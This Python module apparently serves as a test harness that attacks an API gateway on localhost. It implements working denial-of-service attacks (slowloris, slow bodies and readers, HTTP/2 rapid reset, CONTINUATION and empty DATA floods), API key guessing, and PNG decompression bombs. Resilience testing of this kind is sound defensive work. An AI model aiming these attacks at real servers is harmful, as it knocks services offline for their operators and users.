"""What attackers do to a gateway on 127.0.0.1: each attack runs in a process of its own until it is told to end.

An attack is a function of (port, key, running, done): it counts what it sent in `done` while `running` is set.
"""

import multiprocessing
import select
import socket
import struct
import time
import zlib

CONNECTIONS = 400
STEP_SECONDS = 0.5


def slow_heads(port, key, running, done):
    """Slowloris: heads that come a byte at a time."""
    _dribble(port, running, done, b"GET /m1/predict HTTP/1.1\r\nHost: a\r\nX-Slow: ", b"x")


def slow_bodies(port, key, running, done):
    """Requests with a valid key whose bodies come a byte at a time."""
    head = f"POST /m1/predict HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {key}\r\nContent-Type: application/json\r\nContent-Length: 9999\r\n\r\n"
    _dribble(port, running, done, head.encode(), b"x")


def slow_readers(port, key, running, done):
    """Answers of 64 KiB, asked for again and again on one connection, of which nothing is read."""
    ask = f"GET /m1/big HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {key}\r\n\r\n".encode()
    _dribble(port, running, done, ask, ask, receive_buffer=4096, reads=False)


def _dribble(port, running, done, opening, more, receive_buffer=None, reads=True):
    open_sockets = []
    while running.is_set():
        began = time.monotonic()
        while len(open_sockets) < CONNECTIONS:
            client = socket.socket()
            if receive_buffer:
                client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
            try:
                client.connect(("127.0.0.1", port))
                client.setblocking(False)
                client.send(opening)
            except OSError:
                client.close()
                break
            done.value += 1
            open_sockets.append(client)
        for client in list(open_sockets):
            try:
                client.send(more)
                if reads and client.recv(4096) == b"":
                    raise ConnectionError
            except BlockingIOError:
                continue
            except OSError:
                open_sockets.remove(client)
                client.close()
        time.sleep(max(0, STEP_SECONDS - (time.monotonic() - began)))


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head_block(key):
    return b"\x82\x86" + literal(b":path", b"/m1/predict") + literal(b":authority", b"a") + literal(b"x-api-key", key.encode())


def rapid_resets(port, key, running, done):
    """CVE-2023-44487: streams that are opened and reset at once, on eight connections."""
    block = head_block(key)

    def frames(first):
        return b"".join(frame(1, 5, first + 2 * i, block) + frame(3, 0, first + 2 * i, struct.pack(">I", 8)) for i in range(50))

    _flood(port, running, done, 8, frames, 50, 100)


def continuations(port, key, running, done):
    """A header block that never ends (CONTINUATION frames), on eight connections."""
    more = b"".join(frame(9, 0, 1, literal(b"x-more", b"y" * 40)) for _ in range(50))
    _flood(port, running, done, 8, lambda first: (frame(1, 1, 1, head_block(key)) if first == 1 else b"") + more, 50, 100)


def empty_data(port, key, running, done):
    """DATA frames without bytes on a stream that is kept open, on eight connections."""
    opening = frame(1, 4, 1, b"\x83" + head_block(key)[1:])
    _flood(port, running, done, 8, lambda first: (opening if first == 1 else b"") + frame(0, 0, 1) * 50, 50, 100)


def _flood(port, running, done, connections, frames, count, ids):
    """Sends frames as fast as they are taken, up to 20,000 a second; opens a new connection for each that is closed."""
    state = {}
    pace = time.monotonic()
    while running.is_set():
        while len(state) < connections:
            client = socket.create_connection(("127.0.0.1", port))
            client.setblocking(False)
            client.send(PREFACE)
            state[client] = 1
        readable, writable, _ = select.select(list(state), list(state), [], 0.05)
        for client in set(readable) | set(writable):
            try:
                if client in readable and client.recv(65536) == b"":
                    raise ConnectionError
                if client in writable:
                    client.send(frames(state[client]))
                    done.value += count
                    state[client] += ids
            except BlockingIOError:
                continue
            except OSError:
                del state[client]
                client.close()
        pace = max(pace + count * connections / 20_000, time.monotonic() - 0.1)
        time.sleep(max(0, pace - time.monotonic()))


def guesses(port, key, running, done):
    """Keys that are guessed, 2,000 a second on 16 connections."""
    wrong = [f"GET /m1/predict HTTP/1.1\r\nHost: a\r\nX-Api-Key: sp_{n:040d}\r\n\r\n".encode() for n in range(16)]
    _ask(port, running, done, wrong, 2_000)


def pixel_bombs(port, key, running, done):
    """Pictures of 60,000 x 60,000 pixels in a few hundred bytes, 500 a second on 16 connections."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)
    picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 200_000)) + chunk(b"IEND", b"")
    head = (f"POST /pictures/predict HTTP/1.1\r\nHost: a\r\nX-Api-Key: {key}\r\nContent-Type: image/png\r\n"
            f"Content-Length: {len(picture)}\r\n\r\n").encode()
    _ask(port, running, done, [head + picture] * 16, 500)


def _ask(port, running, done, requests, per_second):
    clients = [None] * len(requests)
    pace = time.monotonic()
    while running.is_set():
        for i, request in enumerate(requests):
            try:
                if clients[i] is None:
                    clients[i] = socket.create_connection(("127.0.0.1", port), 5)
                clients[i].sendall(request)
                if not clients[i].recv(65536):
                    raise ConnectionError
                done.value += 1
            except OSError:
                if clients[i] is not None:
                    clients[i].close()
                clients[i] = None
        pace = max(pace + len(requests) / per_second, time.monotonic() - 0.1)
        time.sleep(max(0, pace - time.monotonic()))


ALL = {
    "slow heads (slowloris)": (slow_heads, f"{CONNECTIONS} connections"),
    "slow bodies": (slow_bodies, f"{CONNECTIONS} connections"),
    "slow readers": (slow_readers, f"{CONNECTIONS} connections"),
    "rapid reset": (rapid_resets, "8 connections, up to 20,000 frames/s"),
    "CONTINUATION flood": (continuations, "8 connections, up to 20,000 frames/s"),
    "empty DATA flood": (empty_data, "8 connections, up to 20,000 frames/s"),
    "key guessing": (guesses, "16 connections, 2,000/s"),
    "pixel bombs": (pixel_bombs, "16 connections, 500/s"),
}


class Attack:
    """One attack under way, from entry to exit."""

    def __init__(self, name, port, key):
        self.running = multiprocessing.Event()
        self.running.set()
        self.done = multiprocessing.Value("l", 0)
        self.process = multiprocessing.Process(target=ALL[name][0], args=(port, key, self.running, self.done), daemon=True)

    def __enter__(self):
        self.process.start()
        return self

    def __exit__(self, *_):
        self.running.clear()
        self.process.join(5)
        self.process.kill()
        self.process.join()
